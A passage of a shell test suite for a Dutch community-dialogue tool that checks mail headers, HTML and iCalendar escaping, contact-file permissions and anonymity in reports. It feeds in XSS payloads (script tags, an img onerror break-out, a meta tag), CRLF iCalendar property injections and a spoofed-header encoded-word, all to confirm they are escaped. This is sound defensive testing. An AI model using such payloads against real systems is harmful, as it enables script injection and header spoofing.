		"Quote \" Back \\ slash" "Mo 🙂 Ærø" "(comment) Ann; Bob: C" \
		"Ğülşen Çelik-Øvergaard van den Heuvel-Ñúñez y Ström"
	do
		i=$((i + 1)) &&
		WD_NOW=2026-11-01T10:00 wd-invite -C utf -q add "$name" \
			--email "p$i@example.org" --consent contact || return 1
	done &&
	WD_NOW=2026-11-20T10:00 wd-invite -C utf -q send --mbox ../utf.mbox &&
	python3 mail.py utf.mbox >out &&
	cat out &&
	python3 - utf out <<-\EOF
	import os, sys, yaml
	people = yaml.safe_load(open(os.path.join(sys.argv[1], "oost/people.yaml"),
	                             encoding="utf-8"))["people"]
	contacts = yaml.safe_load(open(os.path.join(sys.argv[1], "oost/contacts.yaml"),
	                               encoding="utf-8"))["contacts"]
	want = sorted("%s <%s>" % (p["name"], contacts[p["id"]]["email"]) for p in people)
	lines = open(sys.argv[2], encoding="utf-8").read().split("\n")[:-1]
	got = sorted(l for l in lines if not l.startswith("Subject: "))
	assert got == want, (got, want)
	subjects = {l for l in lines if l.startswith("Subject: ")}
	assert subjects == {"Subject: Uitnodiging: Één tafel, één buurt: café \"De Ünie\" – "
	                    "elkaar zien in Oost-Zuid, ’s avonds, zaterdag 12 december 2026"}, subjects
	assert len(got) == 11, len(got)
	EOF
'

known_bug "$MAIL_LOOKALIKE_BUG" \
	'mail: a name or title that looks like an encoded-word is shown as it is, not decoded' \
	'lib/mail.c mailbox() and headers() leave =?UTF-8?B?...?= in ASCII text raw, so a name shows as "Bcc: x@example.org"' '
	invite_workspace look &&
	WD_NOW=2026-11-01T10:00 wd-invite -C look -q add \
		"=?UTF-8?B?QmNjOiB4QGV4YW1wbGUub3Jn?=" --email look@example.org --consent contact &&
	sed -i "s/^title: .*/title: \"=?UTF-8?Q?Gratis_=E2=82=AC50?= bij de buurt\"/" look/oost/dialogue.yaml &&
	WD_NOW=2026-11-20T10:00 wd-invite -C look -q send --mbox ../look.mbox &&
	python3 mail.py look.mbox >out &&
	test_grep "^=?UTF-8?B?QmNjOiB4QGV4YW1wbGUub3Jn?= <look@example.org>$" out &&
	test "$(grep -c "^Subject: Uitnodiging: =?UTF-8?Q?Gratis_=E2=82=AC50?= bij de buurt, " out)" = 6
'

# --- HTML: every user-supplied field escaped, in every HTML page ---

# xss_workspace DIR: a workspace with a value QQnn in every field a user
# gives (see lib-xss.py): workspace, sender, two dialogues and their
# relay, people (one not named, one a host), contact data, every kind of
# harvest item, tags, owners, a need and a note in an action's history
xss_workspace() {
	rm -rf "$1" && mkdir "$1" && (
		cd "$1" &&
		wd-init -q --name QQ01 --organisation QQ02 &&
		printf "sender:\n  name: QQ03\n  email: buurtteam@example.org\n" >>wd.yaml &&
		wd-init -q oost --title QQ04 --theme QQ05 --place QQ06 --venue QQ07 \
			--question QQ08 --host QQ09 --start 2026-12-12T19:30 \
			--end 2026-12-12T21:30 &&
		wd-init -q lombok --title QQ10 --theme QQ11 --place QQ12 --venue QQ13 \
			--start 2027-01-20T19:30 --from oost &&
		WD_NOW=2026-11-01T10:00 &&
		export WD_NOW &&
		wd-invite -q add -d oost QQ09 --email host@example.org --host \
			--consent contact,named --role bewoner --organisation QQ14 \
			--note QQ15 --address QQ16 &&
		wd-invite -q add -d oost QQ17 --email p2@example.org \
			--consent contact,named --role professional --organisation QQ18 \
			--address QQ19 &&
		wd-invite -q add -d oost QQ20 --consent contact --address QQ21 &&
		wd-invite -q rsvp -d oost qq09 yes &&
		wd-invite -q rsvp -d oost qq17 yes &&
		wd-harvest -q add -d oost --kind ervaring --by qq09 QQ22 &&
		wd-harvest -q add -d oost --kind citaat --by qq17 --named QQ23 &&
		wd-harvest -q add -d oost --kind droom --tag QQ24 QQ25 &&
		wd-harvest -q add -d oost --kind actie --owner qq17 --need QQ26 \
			--due 2027-01-10 QQ27 &&
		wd-harvest -q add -d oost --kind estafettestokje QQ28 &&
		wd-harvest -q add -d oost --kind vraag QQ29 &&
		wd-harvest -q add -d oost --kind terugblik QQ30 &&
		wd-harvest -q add -d oost --kind verbinding QQ31 &&
		wd-harvest -q add -d oost --kind mogelijkheid QQ32 &&
		wd-harvest -q add -d oost --kind actie --owner QQ33 --new-person QQ34 &&
		id=$(sed -n "/^  - id: /{s/^  - id: //;h;};/text: QQ27/{x;p;}" oost/harvest/tester.yaml) &&
		wd-harvest -q set "$id" --status bezig --note QQ35
	)
}

test_expect_success 'HTML: setup, a workspace with a payload in every field, and one with plain text' '
	xss_workspace xws &&
	for mode in plain xss
	do
		rm -rf $mode && cp -R xws $mode &&
		python3 "$TEST_DIRECTORY/lib-xss.py" fill $mode $mode &&
		wd-report -C $mode check || return 1
	done &&
	test_grep "^title: \"</style><script>alert(5)</script> \[04\]\"$" xss/oost/dialogue.yaml &&
	test_grep "^    address: \"<meta http-equiv=.*\[16\]\"$" xss/oost/contacts.yaml &&
	test_grep "^    address: \"v[v ]* \[16\]\"$" \
		plain/oost/contacts.yaml
'

test_expect_success 'HTML: every field escaped whole in summary --format html and in letters' '
	for mode in plain xss
	do
		WD_NOW=2026-12-01T10:00 wd-report -C $mode summary --all --format html \
			>$mode-all.html &&
		WD_NOW=2026-12-01T10:00 wd-report -C $mode summary -d oost --format html \
			-o ../$mode-oost.html &&
		WD_NOW=2026-12-01T10:00 wd-invite -C $mode -q send -d oost --channel letter \
			--out ../$mode-letters &&
		WD_NOW=2026-12-05T10:00 wd-invite -C $mode -q remind -d oost --days 10 \
			--channel letter --out ../$mode-letters || return 1
	done &&
	ls xss-letters >letters &&
	printf "%s\n" qq09-reminder.html qq09.html qq17-reminder.html qq17.html \
		qq20-reminder.html qq20.html >expect &&
	test_cmp expect letters &&
	python3 "$TEST_DIRECTORY/lib-xss.py" scan xss-all.html xss-oost.html \
		xss-letters/*.html 2>fields &&
	cat fields &&
	# the fields each page shows, so that none goes missing unnoticed
	test_grep "xss-all.html: 26 fields" fields &&
	test_grep "xss-letters/qq09.html: 8 fields" fields &&
	test_grep "xss-letters/qq20-reminder.html: 8 fields" fields
'

test_expect_success 'HTML: the checker finds a field that is not escaped' '
	for bad in "s/&lt;script&gt;alert(1)&lt;\/script&gt; \[22\]/<script>alert(1)<\/script> [22]/" \
		"s/&lt;!-- x \[05\]/<!-- x [05]/" \
		"s/&quot;&gt;&lt;img src=x onerror=alert(2)&gt; \[/\"><img src=x onerror=alert(2)> [/"
	do
		sed "$bad" xss-all.html >xss-bad.html &&
		cp plain-all.html plain-bad.html &&
		! cmp -s xss-all.html xss-bad.html &&
		test_expect_code 1 python3 "$TEST_DIRECTORY/lib-xss.py" scan xss-bad.html \
			>out 2>/dev/null &&
		cat out &&
		test_grep "not escaped" out || return 1
	done
'

# --- ics: text escaped, no line injects a property (wd-invite ics) ---

# ics.py FILE: the names of the properties of an iCalendar file, one a
# line (after unfolding); every line ends in CRLF, is at most 75 octets
# and is valid UTF-8 (folding splits no character)
cat >ics.py <<\EOF
import re, sys
raw = open(sys.argv[1], "rb").read()
assert raw.endswith(b"\r\n"), "no CRLF at the end"
lines = raw[:-2].split(b"\r\n")
for l in lines:
    assert b"\n" not in l and b"\r" not in l, ("a bare LF or CR", l)
    assert len(l) <= 75, ("longer than 75 octets", l)
    l.decode("utf-8")
text = raw.decode("utf-8").replace("\r\n ", "").replace("\r\n\t", "")
for l in text.split("\r\n")[:-1]:
    m = re.match(r"^([A-Z][A-Z0-9-]*)[;:]", l)
    assert m, ("not a property", l)
    print(m.group(1))
EOF

test_expect_success 'ics: line breaks, ; , \ and : in every text value; a name made to break a parameter' '
	need_icalendar &&
	invite_workspace ics &&
	cp -R ics ics-plain &&
	WD_NOW=2026-11-01T10:00 wd-invite -C ics-plain -q add "Evil Person" \
		--email evil@example.org --consent contact &&
	WD_NOW=2026-11-20T10:00 wd-invite -C ics-plain ics evil-person >plain.ics &&
	python3 ics.py plain.ics >plain.props &&
	inject="\\r\\nATTENDEE:mailto:x@example.org\\r\\nX-INJECT:1\\nEND:VEVENT\\nBEGIN:VEVENT" &&
	python3 yset.py ics/oost/dialogue.yaml title \
		"\"Titel; met, tekens\\\\ en: zo $(printf "é%.0s" $(seq 40))\"" &&
	python3 yset.py ics/oost/dialogue.yaml venue "\"Zaal$inject\"" &&
	python3 yset.py ics/oost/dialogue.yaml place "\"Plek;X-PLACE:1,\\\\n\"" &&
	python3 yset.py ics/oost/dialogue.yaml question "\"Vraag$inject\\\\N;,\"" &&
	python3 yset.py ics/wd.yaml "  name" "\"Team\\\";SENT-BY=\\\"mailto:x@example.org\\\":y,z\"" &&
	WD_NOW=2026-11-01T10:00 wd-invite -C ics -q add "Evil\";ROLE=CHAIR;X=\"y:z,w" \
		--email evil@example.org --consent contact &&
	wd-report -C ics check &&
	WD_NOW=2026-11-20T10:00 wd-invite -C ics ics >all.ics &&
	WD_NOW=2026-11-20T10:00 wd-invite -C ics ics evil-role >evil.ics &&
	python3 ics.py evil.ics >evil.props &&
	test_cmp plain.props evil.props &&
	python3 ics.py all.ics >all.props &&
	grep -v "^ATTENDEE$" plain.props >expect &&
	test_cmp expect all.props &&
	"$PY" - ics evil.ics <<-\EOF
	import os, re, sys, yaml
	from icalendar import Calendar
	d = yaml.safe_load(open(os.path.join(sys.argv[1], "oost/dialogue.yaml"), encoding="utf-8"))
	ws = yaml.safe_load(open(os.path.join(sys.argv[1], "wd.yaml"), encoding="utf-8"))
	raw = open(sys.argv[2], "rb").read()
	cal = Calendar.from_ical(raw)
	ev = cal.walk("VEVENT")
	assert len(ev) == 1, len(ev)
	ev = ev[0]
	def same(a, b):
	    # the same text, but for the blanks a line break may have become
	    return "".join(str(a).split()) == "".join(str(b).split())
	# TEXT values unescaped as RFC 5545 3.3.11 says, by hand: the
	# icalendar module takes an escaped backslash and an n for a line
	# break; no ; or , unescaped
	text = {}
	for line in raw.decode("utf-8").replace("\r\n ", "").split("\r\n"):
	    m = re.match(r"^(SUMMARY|LOCATION|DESCRIPTION):(.*)$", line)
	    if m:
	        assert m.group(1) not in text, line
	        assert not re.search(r"(?<!\\)[;,]", m.group(2).replace("\\\\", "")), line
	        text[m.group(1)] = re.sub(r"\\(.)", lambda e: "\n" if e.group(1) in "nN"
	                                  else e.group(1), m.group(2))
	assert same(text["SUMMARY"], d["title"]), (text["SUMMARY"], d["title"])
	assert same(text["LOCATION"], d["venue"] + ", " + d["place"]), text["LOCATION"]
	assert same(text["DESCRIPTION"], d["question"]), text["DESCRIPTION"]
	att = ev["ATTENDEE"]
	assert not isinstance(att, list), att
	assert str(att) == "mailto:evil@example.org", att
	assert sorted(att.params) == ["CN", "PARTSTAT", "ROLE", "RSVP"], att.params
	assert att.params["ROLE"] == "REQ-PARTICIPANT", att.params
	# a double quote cannot be in a parameter value: it may become a quote
	q = lambda v: v.replace("\x27", "\"")
	assert same(q(att.params["CN"]), "Evil\";ROLE=CHAIR;X=\"y:z,w"), att.params["CN"]
	org = ev["ORGANIZER"]
	assert str(org) == "mailto:buurtteam@example.org", org
	assert sorted(org.params) == ["CN"], org.params
	assert same(q(org.params["CN"]), ws["sender"]["name"]), org.params["CN"]
	EOF
'

# --- contacts.yaml: readable by its owner only ---

test_expect_success 'contacts.yaml is made 0600 by add, import, import --from-dialogue and checkin, whatever the umask' '
	mkdir cws && (cd cws && wd-init -q) &&
	for u in 022 002 000
	do
		(
			umask $u &&
			for d in a b c e
			do
				wd-init -q -C cws $d$u --title T --theme t --start 2027-01-01 ||
				exit 1
			done &&
			export WD_NOW=2026-11-01T10:00 &&
			wd-invite -q -C cws add -d a$u "Anna Een" --email anna@example.org \
				--consent contact &&
			printf "naam,telefoon\nBert Twee,06 1234\n" >cws/p.csv &&
			wd-invite -q -C cws import -d b$u p.csv &&
			wd-invite -q -C cws import -d c$u --from-dialogue a$u &&
			wd-invite -q -C cws checkin -d e$u --new "Eva Vier" &&
			wd-invite -q -C cws add -d e$u "Piet Vijf" --address "Straat 5"
		) || return 1
		for d in a b c e
		do
			test "$(stat -c %a cws/$d$u/contacts.yaml)" = 600 ||
			{ echo "$d$u/contacts.yaml: $(stat -c %a cws/$d$u/contacts.yaml)"; return 1; }
		done
	done &&
	test_grep "anna@example.org" cws/c022/contacts.yaml &&
	test_grep "Straat 5" cws/e000/contacts.yaml &&
	test_grep "^contacts.yaml$" cws/.gitignore
'

test_expect_success 'contacts.yaml stays 0600 through rewrites (rsvp, forget, purge)' '
	(
		umask 000 &&
		export WD_NOW=2026-11-02T10:00 &&
		wd-invite -q -C cws add -d a000 "Ben Twee" --email ben@example.org &&
		wd-invite -q -C cws forget ben-twee &&
		wd-invite -q -C cws purge --closed-before 2027-06-01
	) &&
	test "$(stat -c %a cws/a000/contacts.yaml)" = 600 &&
	test_grep "contacts: {}" cws/a000/contacts.yaml
'

if test_have strace
then
	test_expect_success 'the temporary file of contacts.yaml is 0600 too (killed at its rename, umask 000)' '
		# k: a new contacts.yaml; k2: one that is there
		for d in k k2
		do
			wd-init -q -C cws $d --title T --theme t --start 2027-01-01 &&
			(
				umask 000 &&
				export WD_NOW=2026-11-01T10:00 &&
				if test $d = k2
				then
					wd-invite -q -C cws add -d $d "Eerste Persoon" \
						--email een@example.org || exit 1
				fi &&
				# renames: people.yaml, then contacts.yaml (and
				# LeakSanitizer cannot run under strace)
				ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 \
				strace -f -o /dev/null -e trace=rename,renameat,renameat2 \
					-e inject=rename,renameat,renameat2:signal=KILL:when=2 \
					wd-invite -q -C cws add -d $d "Tweede Persoon" \
					--email twee@example.org
				test $? = 137
			) &&
			ls -a cws/$d >files &&
			test_grep "^\.contacts\.yaml\.wdtmp-" files &&
			for f in cws/$d/.contacts.yaml.wdtmp-*
			do
				test "$(stat -c %a "$f")" = 600 &&
				test_grep "twee@example.org" "$f" || return 1
			done || return 1
		done
	'
else
	test_skip 'the temporary file of contacts.yaml is 0600 too (killed at its rename, umask 000)' \
		'strace is not installed'
fi

# --- open data: nobody named, no contact data, unless they consented ---

test_expect_success 'reports and open data show no name, id or contact data of who did not consent' '
	test_example_workspace anon &&
	sed -i "s/^  - Mohamed Bakkali$/&\n  - Fatima-Zahra El Amrani/" anon/oost/dialogue.yaml &&
	WD_NOW=2026-12-20T10:00 wd-harvest -q -C anon add -d oost --kind citaat \
		--by ozlem --named "Hier hoor ik thuis" &&
	WD_NOW=2026-12-20T10:00 wd-harvest -q -C anon add -d oost --kind actie \
		--owner fatima --owner ozlem --due 2027-01-01 "Stoepkrijt kopen" &&
	WD_NOW=2026-12-20T10:00 wd-harvest -q -C anon add -d lombok --kind actie \
		--by sanne --owner sanne "Bankje bij de moskee" &&
	wd-report -q -C anon check &&
	# what must not show: the names and ids of who did not consent to be
	# named, and the contact data of everyone
	python3 - anon <<-\EOF >secrets &&
	import glob, os, sys, unicodedata, yaml
	def fold(s):
	    return "".join(c for c in unicodedata.normalize("NFKD", s)
	                   if not unicodedata.combining(c))
	out = set()
	for p in glob.glob(os.path.join(sys.argv[1], "*/people.yaml")):
	    for person in yaml.safe_load(open(p, encoding="utf-8"))["people"]:
	        if not (person.get("consent") or {}).get("named"):
	            out |= {person["id"], person["name"], fold(person["name"])}
	for c in glob.glob(os.path.join(sys.argv[1], "*/contacts.yaml")):
	    for data in (yaml.safe_load(open(c, encoding="utf-8"))["contacts"] or {}).values():
	        out |= {str(v) for v in data.values()}
	assert len(out) >= 12, out
	print("\n".join(sorted(out)))
	EOF
	cat secrets &&
	test_grep "^ozlem-yildiz$" secrets &&
	test_grep "^Sanne Jansen$" secrets &&
	test_grep "^06 12345678$" secrets &&
	while read -r run
	do
		WD_NOW=2027-01-10T10:00 wd-report -C anon $run >out 2>&1 ||
		{ echo "failed: $run"; return 1; }
		if grep -i -F -f secrets out
		then
			echo "shown by wd-report $run" && return 1
		fi
	done <<-\EOF
	export --format json
	export --format csv
	summary --all --format text
	summary --all --format md
	summary --all --format html
	summary --all --format json
	actions --format json
	actions --format csv
	actions --overdue
	relay --format json
	relay --format dot
	relay --format text
	search --format json buurt
	search --format csv Stoepkrijt
	tags --format csv
	themes --format json
	EOF
'

test_done
